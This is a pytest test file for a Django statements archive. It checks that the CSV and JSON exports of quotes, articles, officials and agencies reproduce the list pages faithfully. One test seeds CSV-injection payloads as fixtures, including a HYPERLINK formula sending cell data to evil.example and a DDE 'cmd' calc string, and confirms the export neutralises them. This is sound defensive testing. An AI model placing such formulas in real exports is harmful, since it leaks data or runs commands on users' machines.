"""CSV and JSON exports: exactly the list page's rows in its order, streamed, UTF-8, safe in spreadsheets."""

import csv
import io
import json

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.utils import timezone

from statements import exports
from statements.models import Agency, Article, Official, Outlet, Quote
from statements.querysets import titles_at_the_time

pytestmark = pytest.mark.usefixtures("seed_archive")

QUOTE_QUERIES = [
    "",
    "year=2020&country=RU",
    "country=RU&country=IR&sort=speaker",
    "country=RU&country=IR&country_mode=all",
    "year_from=2019&year_to=2020&sort=date",
    "fragment=yes",
    "official=christopher-krebs&sort=article",
    "agency=federal-bureau-of-investigation",
    "outlet=sputnik&outlet=the-hill",
    "q=election",
    "q=election+security&sort=relevance",
]
ARTICLE_QUERIES = ["", "country=IR", "year_from=2019&sort=title", "outlet=sputnik", "sort=outlet", "q=Russia"]
NAMED_LISTS = ["officials", "agencies", "outlets", "countries"]


def streamed_text(response):
    assert response.streaming, "exports must stream"
    return b"".join(response.streaming_content).decode("utf-8")


def csv_rows(response):
    """The CSV parsed as a list of dicts, checked to be RFC 4180 (CRLF after every record)."""
    text = streamed_text(response)
    assert text.endswith("\r\n")
    return list(csv.DictReader(io.StringIO(text, newline="")))


def json_body(response):
    return json.loads(streamed_text(response))


def page_ids(client, path, query, key="pk"):
    """The ids of every row of a list page, all its pages, in order, as the page shows them."""
    ids, page = [], 1
    while True:
        response = client.get(f"{path}?{query}&per_page=4&page={page}")
        assert response.status_code == 200, (path, query, response.status_code)
        ids += [getattr(record, key) for record in response.context["object_list"]]
        if not response.context["page_obj"].has_next():
            return ids
        page += 1


@pytest.mark.parametrize("query", QUOTE_QUERIES)
def test_quote_csv_and_json_hold_every_page_of_the_list_in_its_order(client, query):
    expected = page_ids(client, "/quotes/", query)
    assert [int(row["id"]) for row in csv_rows(client.get(f"/quotes.csv?{query}"))] == expected
    body = json_body(client.get(f"/quotes.json?{query}"))
    assert [row["id"] for row in body["results"]] == expected
    assert body["count"] == len(expected)


@pytest.mark.parametrize("query", ARTICLE_QUERIES)
def test_article_csv_and_json_hold_every_page_of_the_list_in_its_order(client, query):
    expected = page_ids(client, "/articles/", query)
    assert [int(row["id"]) for row in csv_rows(client.get(f"/articles.csv?{query}"))] == expected
    assert [row["id"] for row in json_body(client.get(f"/articles.json?{query}"))["results"]] == expected


@pytest.mark.parametrize("name", NAMED_LISTS)
@pytest.mark.parametrize("sort", ["", "sort=name", "sort=quotes"])
def test_named_list_exports_hold_the_list_page_rows_in_its_order(client, name, sort):
    key = "code" if name == "countries" else "pk"
    column = "code" if name == "countries" else "id"
    expected = [str(value) for value in page_ids(client, f"/{name}/", sort, key=key)]
    assert expected
    assert [row[column] for row in csv_rows(client.get(f"/{name}.csv?{sort}"))] == expected
    results = json_body(client.get(f"/{name}.json?{sort}"))["results"]
    assert [str(row[column]) for row in results] == expected


def test_quote_csv_gives_every_documented_column_of_a_quote(client):
    quote = Quote.objects.by_officials("christopher-wray").mentioning("US").get()
    row = next(r for r in csv_rows(client.get("/quotes.csv")) if r["id"] == str(quote.pk))
    article = quote.article
    assert row["permalink"] == f"http://testserver/quotes/{quote.pk}/"
    assert (row["text"], row["speaker"]) == (quote.text, "the statement")
    assert row["officials"] == "; ".join(o.name for o in quote.officials.order_by("name", "slug"))
    assert "Christopher Wray, FBI Director (FBI)" in row["official_titles"].split("; ")
    assert "Federal Bureau of Investigation (FBI)" in row["agencies"].split("; ")
    assert len(row["agencies"].split("; ")) == quote.agencies.count()
    assert row["fragment"] == "false"
    assert (row["article_id"], row["article_title"]) == (str(article.pk), article.title)
    assert row["outlet"] == article.outlet.name
    assert (row["published"], row["published_precision"]) == ("2019-11-06", "day")
    assert row["article_url"] == article.url
    assert (row["country_codes"], row["country_names"]) == ("US", "United States")


def test_quote_export_gives_the_titles_the_quote_page_gives(client):
    rows = {row["id"]: row for row in json_body(client.get("/quotes.json"))["results"]}
    checked = 0
    for quote in Quote.objects.prefetch_related("officials").select_related("article"):
        held = titles_at_the_time(quote.officials.all(), quote.article)
        expected = []
        for official in quote.officials.all():
            labels = [
                f"{t.title} ({t.agency.acronym or t.agency.name})" if t.agency else t.title
                for t in held.get(official.pk, [])
            ]
            expected += [f"{official.name}, {label}" for label in dict.fromkeys(labels)]
        assert rows[quote.pk]["official_titles"] == expected, quote.pk
        checked += bool(expected)
    assert checked >= 10


def test_article_export_counts_quotes_and_orders_countries_by_mentions(client):
    rows = {row["id"]: row for row in json_body(client.get("/articles.json"))["results"]}
    for article in Article.objects.all():
        row = rows[article.pk]
        assert row["quote_count"] == article.quotes.count()
        mentions = list(article.country_mentions.order_by("-mentions", "country__name"))
        assert row["country_codes"] == [m.country.code for m in mentions]
        assert row["country_mentions"] == [m.mentions for m in mentions]


def hostile_article(body, **fields):
    return Article.objects.create(
        title=fields.pop("title", "Hostile"),
        body=body,
        source_file=fields.pop("source_file", "hostile.txt"),
        content_hash=fields.pop("content_hash", "f" * 64),
        **fields,
    )


def test_csv_neutralises_formulas_in_a_hostile_quote_and_a_hostile_officials_name(client):
    formula = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    body = f"He said “{formula}” and left."
    article = hostile_article(body, title="+SUM(1,1)")
    start = body.index(formula)
    quote = Quote.objects.create(article=article, text=formula, start=start, end=start + len(formula))
    quote.speaker = "-2+3"
    quote.save()
    official = Official.objects.create(name="@cmd|' /C calc'!A0", slug="hostile")
    quote.officials.add(official)
    quote.agencies.add(Agency.objects.create(name="\tTabbed", slug="tabbed"))

    [row] = csv_rows(client.get("/quotes.csv?official=hostile"))
    assert row["text"] == "'" + formula
    assert row["speaker"] == "'-2+3"
    assert row["officials"] == "'@cmd|' /C calc'!A0"
    assert row["agencies"] == "'\tTabbed"
    assert row["article_title"] == "'+SUM(1,1)"
    [named] = [r for r in csv_rows(client.get("/officials.csv")) if r["slug"] == "hostile"]
    assert named["name"] == "'@cmd|' /C calc'!A0"
    # JSON is data, not a spreadsheet: the values stay exactly as stored.
    [result] = json_body(client.get("/quotes.json?official=hostile"))["results"]
    assert result["text"] == formula
    assert result["officials"] == ["@cmd|' /C calc'!A0"]


def test_csv_cells_that_merely_contain_formula_characters_are_left_alone():
    assert exports.neutralised("Russia said -- again = nothing") == "Russia said -- again = nothing"
    assert exports.neutralised("") == ""
    assert exports.neutralised(None) is None
    for trigger in ("=", "+", "-", "@", "\t", "\r"):
        assert exports.neutralised(f"{trigger}1") == f"'{trigger}1"


def test_csv_is_utf8_with_rfc4180_quoting_and_keeps_newlines_inside_cells(client):
    text = 'Our “allies”, said Françoise Müller-Łukasz, "do not"\nagree'
    body = f"Intro: {text}. End."
    article = hostile_article(body, source_file="utf8.txt", content_hash="e" * 64)
    start = body.index(text)
    quote = Quote.objects.create(article=article, text=text, start=start, end=start + len(text))
    quote.officials.add(Official.objects.create(name="Françoise Müller-Łukasz", slug="francoise"))

    response = client.get("/quotes.csv?official=francoise")
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    raw = b"".join(response.streaming_content)
    assert not raw.startswith(b"\xef\xbb\xbf")
    assert "“allies”".encode() in raw
    assert "Müller-Łukasz".encode() in raw
    assert b'""do not""\nagree' in raw  # embedded quotes doubled, the newline kept inside the quoted cell
    [row] = list(csv.DictReader(io.StringIO(raw.decode("utf-8"), newline="")))
    assert row["text"] == text
    assert row["officials"] == "Françoise Müller-Łukasz"


def test_csv_for_excel_starts_with_a_byte_order_mark(client):
    raw = b"".join(client.get("/quotes.csv?country=RU&bom=1").streaming_content)
    assert raw.startswith(b"\xef\xbb\xbfid,permalink,")
    rows = list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"), newline="")))
    assert len(rows) == Quote.objects.mentioning("RU").count()


def test_json_has_the_documented_shape(client):
    response = client.get("/quotes.json?year=2019&country=ru")
    assert response["Content-Type"] == "application/json; charset=utf-8"
    body = json_body(response)
    assert list(body) == ["count", "filters", "results"]
    assert body["filters"] == {"year": 2019, "country": ["RU"], "sort": "-date"}
    assert body["count"] == len(body["results"]) == 2
    result = body["results"][0]
    assert list(result) == [column.name for column in exports.QuoteTable.columns]
    assert isinstance(result["fragment"], bool)
    assert isinstance(result["country_codes"], list)


def test_attachment_file_name_says_what_is_inside(client):
    today = timezone.localdate().isoformat()
    response = client.get("/quotes.csv?year=2020&country=ru")
    expected = f"quotes_country-RU_year-2020_{today}.csv"
    assert response["Content-Disposition"] == f'attachment; filename="{expected}"'
    response = client.get("/articles.json")
    assert response["Content-Disposition"] == f'attachment; filename="articles_{today}.json"'
    response = client.get("/officials.csv?sort=quotes")
    assert response["Content-Disposition"] == f'attachment; filename="officials_sort-quotes_{today}.csv"'


@pytest.mark.parametrize(
    "query",
    [
        "year=abc",
        "year=1200",
        "country=ZZ",
        "official=nobody",
        "per_page=0",
        "sort=bogus",
        "fragment=maybe",
        "q=" + "x" * 300,
        "bom=2",
    ],
)
@pytest.mark.parametrize("fmt", ["csv", "json"])
def test_bad_filters_answer_400_in_words_like_the_page(client, query, fmt):
    response = client.get(f"/quotes.{fmt}?{query}")
    assert response.status_code == 400
    assert not response.streaming
    name = query.split("=")[0]
    if fmt == "json":
        assert json.loads(response.content)["errors"][0].startswith(f"{name}:")
    else:
        assert response.content.decode().startswith(f"{name}:")
    if name != "bom":
        assert client.get(f"/quotes/?{query}").status_code == 400


def test_export_reads_many_valued_columns_per_batch_not_per_row(client):
    with CaptureQueriesContext(connection) as first:
        rows = csv_rows(client.get("/quotes.csv"))
    assert len(rows) == Quote.objects.count()
    with CaptureQueriesContext(connection) as queries:
        assert csv_rows(client.get("/quotes.csv")) == rows
    if connection.vendor == "postgresql":
        # The first export computes every quote's line (statements.export_lines) in a few statements; the
        # next finds nothing to compute in one read, then makes the selection and reads the lines.
        assert len(first) <= 20, [q["sql"] for q in first]
        assert len(queries) <= 10, [q["sql"] for q in queries]
    else:
        # FilterSet validation, the rows, officials, agencies, countries, titles (two at most).
        assert len(queries) <= 8, [q["sql"] for q in queries]


def test_docs_describe_every_column_of_every_export():
    from pathlib import Path

    docs = (Path(__file__).resolve().parents[1] / "docs" / "export.md").read_text(encoding="utf-8")
    assert exports.column_reference() in docs


def test_every_list_outlet_and_agency_export_matches_the_database(client):
    outlets = {row["slug"]: row for row in csv_rows(client.get("/outlets.csv"))}
    for outlet in Outlet.objects.all():
        assert int(outlets[outlet.slug]["article_count"]) == outlet.articles.count()
        quotes = Quote.objects.filter(article__outlet=outlet).count()
        assert int(outlets[outlet.slug]["quote_count"]) == quotes
    agencies = {row["slug"]: row for row in csv_rows(client.get("/agencies.csv"))}
    fbi = agencies["federal-bureau-of-investigation"]
    assert (fbi["acronym"], fbi["kind"], fbi["country_code"]) == ("FBI", "federal_agency", "US")
